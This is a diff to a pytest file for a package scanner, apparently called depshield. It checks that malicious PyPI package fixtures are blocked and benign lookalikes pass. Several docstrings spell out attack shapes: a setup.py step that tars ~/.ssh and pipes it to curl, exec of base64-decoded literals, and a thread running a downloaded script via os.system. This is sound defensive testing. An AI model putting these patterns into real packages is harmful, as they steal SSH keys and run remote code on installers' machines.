@@ -8,8 +8,6 @@ from __future__ import annotations
 
 from pathlib import Path
 
-import pytest
-
 from depshield.alerts.grading import THREATS
 from depshield.analysis import analyze_artifact
 from depshield.model import PackageResult
@@ -61,11 +59,22 @@ def test_download_chmod_run_across_functions_at_import_is_blocked() -> None:
     assert result.verdict == "block"
 
 
-@pytest.mark.xfail(strict=True, reason="gap: a shipped shell script's wget&&chmod&&run is monitor")
 def test_shipped_shell_script_download_and_run_warns_at_least() -> None:
+    """A script installed beside the package's modules that nothing runs at install or import:
+    its unverified download-and-run and its upload of host files are flagged (warn), not
+    hidden as a maintainer script's would be."""
     result = analyze("incidents", "pypi-shell-oneliners")
-    found = {(t, f, ln) for t, f, ln, act in alerts(result) if act in ("error", "warn")}
-    assert ("remoteCodeDownload", "shellprobe/init.sh", 3) in found
+    found = {(t, f, ln, act) for t, f, ln, act in alerts(result)}
+    assert ("remoteCodeDownload", "shellprobe/init.sh", 3, "warn") in found
+    assert ("dataExfiltration", "shellprobe/init.sh", 2, "warn") in found
+
+
+def test_shipped_installer_script_that_checks_its_release_digest_is_not_remote_code() -> None:
+    """An installer script beside the modules that curls its own release and checks the
+    sha256 before running it; and a CI report upload of a project file."""
+    result = analyze("lookalikes", "pypi-shell-verified-installer")
+    assert result.verdict == "pass"
+    assert not {a.type for a in result.alerts} & THREATS
 
 
 def test_hash_pinned_release_downloader_called_only_is_not_blocked() -> None:
@@ -90,3 +99,78 @@ def test_a_path_handed_between_functions_without_a_download_is_not_remote_code(
     )
     result = analyze_artifact(pkg)
     assert not {a.type for a in result.alerts} & THREATS, sorted(alerts(result))
+
+
+def test_host_survey_handed_to_a_sender_for_a_bare_ip_is_blocked() -> None:
+    """cephlib / dependency-confusion shape: facts gathered in one function, posted by another
+    whose URL is formatted with the address its caller passes."""
+    result = analyze("incidents", "pypi-survey-to-capture-host")
+    assert ("dataExfiltration", "surveypost/__init__.py", 15, "error") in alerts(result)
+    assert result.verdict == "block"
+
+
+def test_cloud_credentials_read_with_configparser_and_posted_are_blocked() -> None:
+    result = analyze("incidents", "pypi-cloud-creds-post")
+    assert ("dataExfiltration", "credpost/__init__.py", 15, "error") in alerts(result)
+    assert result.verdict == "block"
+
+
+def test_ssh_config_listed_locally_with_a_version_ping_is_not_exfiltration() -> None:
+    """Reads ~/.ssh/config to print hosts; its update check sends a User-Agent to its own host."""
+    result = analyze("lookalikes", "pypi-ssh-config-lister")
+    assert result.verdict == "pass"
+    assert not {a.type for a in result.alerts} & THREATS
+
+
+def test_obfuscated_module_that_execs_computed_text_at_import_is_blocked() -> None:
+    """Hyperion / BlankOBF shape: builtins renamed in bulk, computed text handed to exec."""
+    result = analyze("incidents", "pypi-obfuscated-exec")
+    assert ("encodedPayloadExecution", "shuffled/__init__.py", 1, "error") in alerts(result)
+    assert result.verdict == "block"
+
+
+def test_readable_exec_of_the_users_config_file_is_not_a_payload() -> None:
+    result = analyze("lookalikes", "pypi-config-exec")
+    assert result.verdict == "pass"
+    assert not {a.type for a in result.alerts} & THREATS
+
+
+def test_embedded_stage_exec_in_a_helper_that_runs_only_when_called_is_blocked() -> None:
+    """pytagora2 shape: `exec(b64decode('<literal>'))` inside a function a public one calls."""
+    result = analyze("incidents", "pypi-embedded-exec-call")
+    assert ("encodedPayloadExecution", "embedcall/__init__.py", 6, "error") in alerts(result)
+    assert result.verdict == "block"
+
+
+def test_decoding_a_callers_blob_is_not_blocked() -> None:
+    """IPC transport (debugpy's shape): the decoded blob is an argument, not the package's own."""
+    result = analyze("lookalikes", "pypi-decode-caller-blob")
+    assert result.verdict != "block"
+    assert not {a.action for a in result.alerts if a.type in THREATS} & {"error"}
+
+
+def test_install_command_uploading_ssh_keys_through_a_pipe_is_blocked() -> None:
+    """`tar czf - ~/.ssh | curl --data-binary @- URL` in a cmdclass's subprocess string."""
+    result = analyze("incidents", "pypi-setup-key-upload")
+    assert ("dataExfiltration", "setup.py", 10, "error") in alerts(result)
+    assert result.verdict == "block"
+
+
+def test_download_run_through_a_thread_target_is_blocked() -> None:
+    """nuke-bot shape: `Thread(target=os.system, args=("python3 " + path,))` runs the download."""
+    result = analyze("incidents", "pypi-thread-dropper")
+    assert ("remoteCodeDownload", "threaddrop/__init__.py", 11, "error") in alerts(result)
+    assert result.verdict == "block"
+
+
+def test_a_thread_running_git_beside_a_saved_download_is_not_remote_code() -> None:
+    result = analyze("lookalikes", "pypi-thread-git-status")
+    assert result.verdict == "pass"
+    assert not {a.type for a in result.alerts} & THREATS
+
+
+def test_files_found_by_walking_home_uploaded_to_a_bare_ip_are_blocked() -> None:
+    """proxyalhttp shape: os.walk, then each file posted to a capture address."""
+    result = analyze("incidents", "pypi-walk-and-upload")
+    assert ("dataExfiltration", "harvest/__init__.py", 10, "error") in alerts(result)
+    assert result.verdict == "block"
